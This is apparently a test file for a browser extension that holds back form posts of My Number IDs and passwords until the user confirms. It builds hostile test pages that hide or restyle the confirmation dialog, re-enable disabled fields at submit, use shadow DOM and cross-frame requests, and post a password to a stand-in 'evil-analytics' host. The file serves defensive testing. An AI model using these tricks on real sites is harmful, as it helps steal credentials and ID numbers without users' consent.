// A hostile page against the form guard (issue 11, "the hook and the guard"): each bypass class is a page
// written to get a My Number or a password past the guard without the user's informed confirmation, and
// each has a control that must still pass. The hook alone is tested on the unpacked extension (no
// backstop there: what gets through here would get through); the backstop's part on the force-installed one.
import type { CDPSession, Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import {
  findByTestId,
  launchWithExtension,
  waitForTypedValues,
  waitInWorker,
  type CdpNode,
  type Launched,
} from './browser.ts';
import { launchForceInstalled, type ForceInstalled } from './force-install.ts';
import { startTestServer, type TestServer } from './server.ts';

const MY_NUMBER = '1234-5678-9018';

const html = (title: string, body: string, script = '') =>
  `<!doctype html><html lang="ja"><head><meta charset="utf-8"><title>${title}</title></head>` +
  `<body><h1 id="page">${title}</h1>${body}<script>${script}</script></body></html>`;

const myNumberForm = (action: string) => `
  <form id="apply" method="post" action="${action}">
    <label>氏名 <input name="name" value="山田 太郎"></label>
    <label>個人番号 <input id="mynumber" name="mynumber"></label>
    <button id="save" name="op" value="save">送信</button>
  </form>`;

async function textOf(cdp: CDPSession, node: CdpNode): Promise<string> {
  const { object } = (await cdp.send('DOM.resolveNode', { backendNodeId: node.backendNodeId })) as {
    object: { objectId: string };
  };
  const r = (await cdp.send('Runtime.callFunctionOn', {
    objectId: object.objectId,
    functionDeclaration: 'function () { return this.textContent; }',
    returnByValue: true,
  })) as { result: { value: string } };
  return r.result.value;
}

/** The guard's dialog, seen and clicked the way a user does (a real mouse click at the button's centre). */
class Dialog {
  private constructor(
    private readonly page: Page,
    private readonly cdp: CDPSession,
  ) {}
  static async of(page: Page) {
    return new Dialog(page, await page.context().newCDPSession(page));
  }
  async waitOpen(mode?: string, timeout = 10_000): Promise<{ mode: string; text: string }> {
    const start = Date.now();
    for (;;) {
      const n = await findByTestId(this.cdp, 'form-dialog');
      if (n) {
        const a = n.attributes ?? [];
        const m = a[a.indexOf('data-mode') + 1] ?? '';
        if (!mode || m === mode) return { mode: m, text: await textOf(this.cdp, n) };
      }
      if (Date.now() - start > timeout) throw new Error(`no dialog${mode ? ` (${mode})` : ''}`);
      await this.page.waitForTimeout(100);
    }
  }
  async click(testid: string) {
    const n = await findByTestId(this.cdp, testid);
    if (!n) throw new Error(`no ${testid}`);
    const { model } = (await this.cdp.send('DOM.getBoxModel', { backendNodeId: n.backendNodeId })) as {
      model: { content: number[] };
    };
    const q = model.content;
    await this.page.mouse.click((q[0]! + q[4]!) / 2, (q[1]! + q[5]!) / 2);
  }
}

// ---- 1. the dialog's host restyled by the page
// Each attack runs when the dialog's host appears (the page sees it: it is an element of its document).
const onHost = (attack: string) => `
  new MutationObserver((records) => {
    for (const r of records) for (const n of r.addedNodes) {
      if (!(n instanceof HTMLElement) || !(n.getAttribute('style') || '').includes('2147483647')) continue;
      const host = n, html = document.documentElement;
      const sheet = (css) => { const s = document.createElement('style'); s.textContent = css; document.head.append(s); };
      ${attack}
    }
  }).observe(document.documentElement, { childList: true });`;

const HOST_ATTACKS: Record<string, string> = {
  'host zoom 0.04': `host.style.setProperty('zoom', '0.04', 'important');`,
  'host -webkit-text-fill-color transparent': `host.style.setProperty('-webkit-text-fill-color', 'transparent', 'important');`,
  'host opacity by class': `sheet('.ghost { opacity: 0.02 !important; }'); host.className = 'ghost';`,
  'host clip-path': `host.style.setProperty('clip-path', 'inset(50%)', 'important');`,
  'host transform': `host.setAttribute('style', host.getAttribute('style') + 'transform: scale(0.05) !important;');`,
  'host filter': `host.style.setProperty('filter', 'blur(12px)', 'important');`,
  'host visibility': `host.style.setProperty('visibility', 'hidden', 'important');`,
  'root zoom 0.04': `html.style.zoom = '0.04';`,
  'root filter by stylesheet': `sheet('html { filter: opacity(0.03) !important; }');`,
  'root -webkit-text-fill-color with zoom, undone at pointerdown': `
      sheet('html.trap { zoom: 0.04; -webkit-text-fill-color: transparent; }'); html.classList.add('trap');
      addEventListener('pointerdown', () => html.classList.remove('trap'), true);`,
};

// ---- 2. the form changed by the page after the guard looked; forms in trees no attachShadow announced
const DISABLED = (where: string) => `
  const f = document.getElementById('apply'), n = document.getElementById('mynumber');
  document.getElementById('save').addEventListener('pointerdown', () => { n.disabled = true; });
  ${where}`;
const REENABLE: Record<string, string> = {
  'the form’s own submit listener': `f.addEventListener('submit', () => { n.disabled = false; });`,
  'a document listener, bubbling': `document.addEventListener('submit', () => { n.disabled = false; });`,
  'the form’s listener, stopping every other': `f.addEventListener('submit', (e) => { n.disabled = false; e.stopImmediatePropagation(); });`,
};
const DSD_FORM = (value: string) =>
  `<div class="dsd"><template shadowrootmode="open"><form method="post" action="/apply/dsd"><input name="mynumber" value="${value}"><button id="dsd-go">送信</button></form></template></div>`;
const DSD_PAGES: Record<string, string> = {
  'setHTMLUnsafe, requestSubmit() by the page': `
    const host = document.createElement('div'); document.body.append(host);
    host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
    window.go = () => host.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
  'setHTMLUnsafe inside a closed tree, requestSubmit() by the page': `
    const outer = document.createElement('div'); document.body.append(outer);
    const closed = outer.attachShadow({ mode: 'closed' });
    const inner = document.createElement('div'); closed.append(inner);
    inner.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
    window.go = () => inner.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
  'setHTMLUnsafe, requestSubmit() later through an iframe’s prototype (no announcement: seen added)': `
    const host = document.createElement('div'); document.body.append(host);
    host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('123456789018'))});
    const frame = document.body.appendChild(document.createElement('iframe')).contentWindow;
    window.go = () => frame.HTMLFormElement.prototype.requestSubmit.call(host.querySelector('.dsd').shadowRoot.querySelector('form'));`,
  'Document.parseHTMLUnsafe, adopted, requestSubmit() by the page': `
    const parsed = Document.parseHTMLUnsafe('<div id="x">' + ${JSON.stringify(DSD_FORM('123456789018'))} + '</div>');
    const host = document.adoptNode(parsed.getElementById('x')); document.body.append(host);
    window.go = () => host.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
};

// ---- 3. another frame's realm: an XHR opened through an iframe's prototype, a password sent from another frame
const PASSWORD = 'correct horse 42';
const REALMS = `
  window.frame = document.getElementById('f').contentWindow;
  const result = (x) => new Promise((done) => { x.onload = () => done('sent'); x.onerror = () => done('failed'); });
  // open() of one realm, send() of the other, on the same object
  window.mixed = (body, openIn, sendIn) => {
    const x = new XMLHttpRequest();
    const r = result(x);
    openIn.XMLHttpRequest.prototype.open.call(x, 'POST', '/api/mixed');
    sendIn.XMLHttpRequest.prototype.send.call(x, body);
    return r;
  };
  window.frameFetch = (value) =>
    frame.fetch('/api/realm', { method: 'POST', body: JSON.stringify({ note: value }) }).then(() => 'sent', () => 'failed');`;
const REALMS_BODY = '<label>パスワード <input id="pw" type="password"></label><iframe id="f" src="/blank"></iframe>';

describe('the hook alone (unpacked: no backstop)', () => {
  let server: TestServer;
  let b: Launched;
  let page: Page;
  let mark = 0;
  const posts = (host: string, path?: string) =>
    server.requests
      .slice(mark)
      .filter((r) => r.method === 'POST' && r.host === host && (path === undefined || r.url === path));

  beforeAll(async () => {
    server = await startTestServer();
    const pages: Record<string, string> = {
      '/plain': html('plain', myNumberForm('/apply/draft')),
      // Controls: a page that watches the dialog's host (reads it, never writes it) and one that restyles itself.
      '/watcher': html(
        'watcher',
        myNumberForm('/apply/draft'),
        onHost(`window.seenHost = [host.getAttribute('style'), getComputedStyle(host).zoom];`),
      ),
      '/busy': html(
        'busy',
        myNumberForm('/apply/draft') + '<p id="tick">0</p>',
        `setInterval(() => { tick.textContent = String(+tick.textContent + 1); document.body.classList.toggle('odd'); tick.style.color = tick.style.color ? '' : 'red'; }, 50);`,
      ),
    };
    Object.values(REENABLE).forEach((where, i) => {
      pages[`/disabled/${i}`] = html('disabled', myNumberForm('/apply/draft'), DISABLED(where));
    });
    Object.values(DSD_PAGES).forEach((script, i) => {
      pages[`/dsd/${i}`] = html('dsd', '', script);
    });
    pages['/dsd-click'] = html(
      'dsd',
      '',
      `const host = document.createElement('div'); document.body.append(host); host.setHTMLUnsafe(${JSON.stringify(DSD_FORM(''))});`,
    );
    pages['/dsd-plain'] = html(
      'dsd',
      '',
      `const host = document.createElement('div'); document.body.append(host); host.setHTMLUnsafe(${JSON.stringify(DSD_FORM('hello'))});
       window.go = () => host.querySelector('.dsd').shadowRoot.querySelector('form').requestSubmit();`,
    );
    // Controls: a page that adds a token in its submit listener, one that builds FormData there and fetches.
    pages['/token'] = html(
      'token',
      '<form id="c" method="post" action="/comment"><input name="text" value="こんにちは"><button id="go">投稿</button></form>',
      `c.addEventListener('submit', () => { const t = document.createElement('input'); t.type = 'hidden'; t.name = 'token'; t.value = 'abc'; c.append(t); });`,
    );
    pages['/by-script'] = html(
      'by-script',
      '<form id="c" method="post" action="/comment"><input name="text" value="こんにちは"><button id="go">投稿</button></form><p id="done"></p>',
      `c.addEventListener('submit', (e) => { e.preventDefault(); fetch('/comment', { method: 'POST', body: new FormData(c) }).then((r) => { done.textContent = String(r.status); }); });`,
    );
    pages['/realms'] = html('realms', REALMS_BODY, REALMS);
    pages['/blank'] = html('blank', '');
    pages['/framed-login'] = html(
      'framed-login',
      '<iframe id="f" src="/login-frame"></iframe>',
      `window.send = () => fetch('/api/realm', { method: 'POST', body: JSON.stringify({ note: document.getElementById('f').contentDocument.getElementById('pw').value }) }).then(() => 'sent', () => 'failed');`,
    );
    pages['/login-frame'] = html('login', '<input id="pw" type="password">');
    Object.entries(HOST_ATTACKS).forEach(([, attack], i) => {
      pages[`/attack/${i}`] = html('attack', myNumberForm('/apply/draft'), onHost(attack));
    });
    server.route('forms.example.net', (req, res) => {
      const path = (req.url ?? '/').split('?')[0]!;
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(pages[path] ?? html(path, ''));
    });
    b = await launchWithExtension({ hostPort: server.port });
    await waitInWorker(b.worker, async () => (await chrome.storage.local.get('policyStatus')).policyStatus);
    page = await b.context.newPage();
  });
  afterAll(async () => {
    await b?.close();
    await server?.close();
  });
  beforeEach(async () => {
    await page.close();
    page = await b.context.newPage();
    mark = server.requests.length;
  });

  /** Fills in the My Number, submits, and waits for the confirmation. */
  async function submitMyNumber(path: string) {
    await page.goto(`https://forms.example.net${path}`);
    await page.fill('#mynumber', MY_NUMBER);
    const d = await Dialog.of(page);
    await page.click('#save');
    return d;
  }

  it.each(Object.keys(HOST_ATTACKS).map((name, i) => [name, i] as const))(
    'dialog restyled by the page (%s): the send is cancelled and the user told why',
    async (_name, i) => {
      const d = await submitMyNumber(`/attack/${i}`);
      // The notice replaces the confirmation as soon as the page touches it: there is no "send" left to click.
      const notice = await d.waitOpen('notice');
      expect(notice.text).toContain('確認画面の表示を改変');
      expect(notice.text).toContain('altered the confirmation dialog');
      expect(notice.text).toContain('8.1.1(5)(f)');
      await page.waitForTimeout(300);
      expect(posts('forms.example.net', '/apply/draft')).toHaveLength(0);
    },
  );

  it.each(['/plain', '/watcher', '/busy'])(
    'control: a dialog the page does not touch (%s) confirms, and the form arrives once',
    async (path) => {
      const d = await submitMyNumber(path);
      await d.waitOpen('confirm');
      await page.waitForTimeout(800); // the confirmation arms itself after a moment
      await Promise.all([page.waitForURL('https://forms.example.net/apply/draft'), d.click('send')]);
      const got = posts('forms.example.net', '/apply/draft');
      expect(got).toHaveLength(1);
      expect(got[0]!.body).toContain('mynumber=');
    },
  );

  it.each(Object.keys(REENABLE).map((name, i) => [name, i] as const))(
    'a field disabled at pointerdown and enabled again in %s is judged again: held, nothing sent without the user',
    async (_name, i) => {
      const d = await submitMyNumber(`/disabled/${i}`);
      const shown = await d.waitOpen('confirm');
      expect(shown.text).toContain('マイナンバー');
      await page.waitForTimeout(300);
      expect(posts('forms.example.net', '/apply/draft')).toHaveLength(0);
      await page.keyboard.press('Escape');
      await page.waitForTimeout(300);
      expect(posts('forms.example.net', '/apply/draft')).toHaveLength(0);
      if (i !== 0) return;
      // confirmed, it goes once, as the page built it
      await page.click('#save');
      await d.waitOpen('confirm');
      await page.waitForTimeout(800);
      await Promise.all([page.waitForURL('https://forms.example.net/apply/draft'), d.click('send')]);
      const got = posts('forms.example.net', '/apply/draft');
      expect(got).toHaveLength(1);
      expect(got[0]!.body).toContain('mynumber=1234-5678-9018');
    },
  );

  it('control: a page that adds a token in its submit listener posts at once; one that posts FormData by fetch too', async () => {
    await page.goto('https://forms.example.net/token');
    await Promise.all([page.waitForURL('https://forms.example.net/comment'), page.click('#go')]);
    const got = posts('forms.example.net', '/comment');
    expect(got).toHaveLength(1);
    expect(got[0]!.body).toContain('token=abc');
    mark = server.requests.length;
    await page.goto('https://forms.example.net/by-script');
    await page.click('#go');
    await expect.poll(() => page.textContent('#done')).toBe('200');
    expect(posts('forms.example.net', '/comment')).toHaveLength(1);
  });

  it.each(Object.keys(DSD_PAGES).map((name, i) => [name, i] as const))(
    'a form in a declarative shadow tree (%s) is judged: held, nothing sent without the user',
    async (_name, i) => {
      await page.goto(`https://forms.example.net/dsd/${i}`);
      const d = await Dialog.of(page);
      await page.evaluate(() => (window as unknown as { go(): void }).go());
      expect((await d.waitOpen('confirm')).text).toContain('マイナンバー');
      await page.keyboard.press('Escape');
      await page.waitForTimeout(300);
      expect(posts('forms.example.net', '/apply/dsd')).toHaveLength(0);
    },
  );

  it('a declarative shadow tree the user types into and submits is judged; control: one carrying nothing sensitive goes', async () => {
    await page.goto('https://forms.example.net/dsd-click');
    const d = await Dialog.of(page);
    await page.fill('input[name=mynumber]', MY_NUMBER);
    await page.click('#dsd-go');
    await d.waitOpen('confirm');
    await page.keyboard.press('Escape');
    await page.waitForTimeout(300);
    expect(posts('forms.example.net', '/apply/dsd')).toHaveLength(0);
    await page.goto('https://forms.example.net/dsd-plain');
    await Promise.all([
      page.waitForURL('https://forms.example.net/apply/dsd'),
      page.evaluate(() => (window as unknown as { go(): void }).go()),
    ]);
    expect(posts('forms.example.net', '/apply/dsd')).toHaveLength(1);
  });

  it.each([
    ['opened through the iframe’s prototype, sent through the page’s', 'frame', 'window'],
    ['opened through the page’s prototype, sent through the iframe’s', 'window', 'frame'],
  ])('an XHR %s carrying a My Number is stopped and said so', async (_name, openIn, sendIn) => {
    await page.goto('https://forms.example.net/realms');
    await page.waitForFunction(() => (window as any).frame?.document?.readyState === 'complete');
    const d = await Dialog.of(page);
    const r = page.evaluate(
      ([o, s]) => (window as any).mixed('mynumber=123456789018', (window as any)[o!], (window as any)[s!]),
      [openIn, sendIn],
    );
    const shown = await d.waitOpen('block');
    expect(shown.text).toContain('マイナンバー');
    await page.keyboard.press('Escape');
    expect(await r).toBe('failed');
    expect(posts('forms.example.net', '/api/mixed')).toHaveLength(0);
  });

  it('control: a mixed-realm XHR carrying nothing sensitive, and one with no body, go at once', async () => {
    await page.goto('https://forms.example.net/realms');
    await page.waitForFunction(() => (window as any).frame?.document?.readyState === 'complete');
    expect(await page.evaluate(() => (window as any).mixed('view=top', (window as any).frame, window))).toBe('sent');
    expect(await page.evaluate(() => (window as any).mixed(null, window, (window as any).frame))).toBe('sent');
    expect(posts('forms.example.net', '/api/mixed')).toHaveLength(2);
  });

  it('a password typed in the page and sent from an iframe’s realm is held; so is one typed in a frame and sent from the page', async () => {
    await page.goto('https://forms.example.net/realms');
    await page.waitForFunction(() => (window as any).frame?.document?.readyState === 'complete');
    await page.locator('#pw').pressSequentially(PASSWORD);
    const d = await Dialog.of(page);
    // control first: a value the user did not type goes at once
    expect(await page.evaluate(() => (window as any).frameFetch('こんにちは'))).toBe('sent');
    expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);
    const r = page.evaluate((pw) => (window as any).frameFetch(pw), PASSWORD);
    expect((await d.waitOpen('confirm')).text).toContain('パスワード');
    await page.keyboard.press('Escape');
    expect(await r).toBe('failed');
    expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);

    await page.goto('https://forms.example.net/framed-login');
    await page.frameLocator('#f').locator('#pw').pressSequentially(PASSWORD);
    const d2 = await Dialog.of(page);
    const r2 = page.evaluate(() => (window as any).send());
    expect((await d2.waitOpen('confirm')).text).toContain('パスワード');
    await page.keyboard.press('Escape');
    expect(await r2).toBe('failed');
    expect(posts('forms.example.net', '/api/realm')).toHaveLength(1);
  });
});

// ---- with the backstop: the extension force-installed the way admins install it
const EVIL = 'https://collect.evil-analytics.example';
const TRICK_FORM = `<form id="f" method="post" action="${EVIL}/steal">
  <input name="user" value="taro"><input id="pw" name="password" type="password"><button id="go">ログイン</button></form>`;
const FORCED_PAGES: Record<string, string> = {
  // the hook now judges this one again after the page's listener: its dialog, not the backstop's notice
  '/disabled': html(
    'disabled',
    TRICK_FORM,
    `go.addEventListener('pointerdown', () => { pw.disabled = true; });
     f.addEventListener('submit', () => { pw.disabled = false; });`,
  ),
  // what the hook cannot see: the page's own formdata listener, which stops every other, adds the password
  '/formdata': html(
    'formdata',
    TRICK_FORM.replace(' name="password"', ''),
    `f.addEventListener('formdata', (e) => { e.formData.append('d', btoa(pw.value)); e.stopImmediatePropagation(); });`,
  ),
};

describe('the hook and the backstop (force-installed)', () => {
  let server: TestServer;
  let b: ForceInstalled;
  let page: Page;
  let mark = 0;
  const seen = (host: string) => server.requests.slice(mark).filter((r) => r.host === host);

  async function typePassword(p: Page) {
    await p.locator('#pw').pressSequentially(PASSWORD);
    await waitForTypedValues(b.worker);
  }

  beforeAll(async () => {
    server = await startTestServer();
    server.route('www.ssk.or.jp', (req, res) => {
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(FORCED_PAGES[(req.url ?? '/').split('?')[0]!] ?? html('ssk', ''));
    });
    b = await launchForceInstalled({ hostPort: server.port });
    // Blocking granted (force-installed): the backstop is on.
    const status = await waitInWorker(
      b.worker,
      async () => (await chrome.storage.local.get('backstopStatus')).backstopStatus as { enforcing?: boolean },
    );
    expect(status.enforcing).toBe(true);
    page = await b.context.newPage();
  });
  afterAll(async () => {
    await b?.close();
    await server?.close();
  });
  beforeEach(async () => {
    await page.close();
    page = await b.context.newPage();
    mark = server.requests.length;
  });

  it('a field disabled at pointerdown is caught by the hook itself: its dialog; cancelled nothing leaves, confirmed it arrives once (the backstop honours the grant)', async () => {
    await page.goto('https://www.ssk.or.jp/disabled');
    await typePassword(page);
    const d = await Dialog.of(page);
    await page.click('#go');
    expect((await d.waitOpen('confirm')).text).toContain('パスワード');
    await page.keyboard.press('Escape');
    await page.waitForTimeout(300);
    expect(seen('collect.evil-analytics.example')).toEqual([]);
    expect(page.url()).toBe('https://www.ssk.or.jp/disabled');
    await page.click('#go');
    await d.waitOpen('confirm');
    await page.waitForTimeout(800);
    await Promise.all([page.waitForURL(`${EVIL}/steal`), d.click('send')]);
    const posts = seen('collect.evil-analytics.example').filter((r) => r.method === 'POST');
    expect(posts).toHaveLength(1);
    expect(posts[0]!.body).toContain('password=');
  });

  it('a password the page adds in its own formdata listener (past the hook) is cancelled by the backstop', async () => {
    await page.goto('https://www.ssk.or.jp/formdata');
    await typePassword(page);
    await Promise.all([page.waitForURL(/backstop-notice\.html#/), page.click('#go')]);
    expect(await page.getByTestId('backstop-notice').getAttribute('data-clause')).toBe('8.1.1(5)(f)(ｲ)');
    expect(seen('collect.evil-analytics.example')).toEqual([]);
  });
});
